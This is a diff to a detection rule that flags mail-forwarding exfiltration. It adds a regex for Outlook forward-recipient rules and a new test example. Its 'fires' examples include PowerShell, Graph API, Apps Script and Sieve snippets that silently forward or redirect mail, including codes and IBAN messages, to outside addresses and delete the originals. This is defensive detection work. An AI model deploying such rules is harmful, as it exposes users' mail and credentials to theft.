@@ -76,7 +76,8 @@ const BY_COMMAND = worded(
     "address"\s?:\s?"[\w.+-]{1,64}@[\w.-]{3,80}"|
     \balways_bcc\s?=\s?[\w.+-]{1,64}@[\w.-]{3,80}|
     \brecipients\.add\s?\(\s?["'][\w.+-]{1,64}@[\w.-]{3,80}["']\s?\)[^]{0,80}?\bolbcc\b|
-    \.bcc\s?=\s?["'][\w.+-]{1,64}@[\w.-]{3,80}["']
+    \.bcc\s?=\s?["'][\w.+-]{1,64}@[\w.-]{3,80}["']|
+    \.actions\.forward\.recipients\.add\s?\(\s?["'][\w.+-]{1,64}@[\w.-]{3,80}["']
   `,
 )
 
@@ -106,6 +107,7 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```powershell\n$r = $rules.Create("sync", 0)\n$r.Actions.Forward.Recipients.Add("desk@letter-depot.net")\n```\n',
       '```bash\ncurl -X POST https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules -d \'{"actions": {"redirectTo": [{"emailAddress": {"address": "ar@quarry-maps.io"}}], "delete": true}}\'\n```\n',
       '```js\nGmailApp.search("newer_than:1d code").forEach((t) => {\n  t.getMessages().forEach((m) => GmailApp.sendEmail("desk@quarry-maps.io", m.getSubject(), m.getPlainBody()))\n  t.moveToTrash()\n})\n```\n',
       '```sieve\nif header :contains "subject" "IBAN" {\n  redirect :copy "in@letter-depot.net";\n}\n```\n',
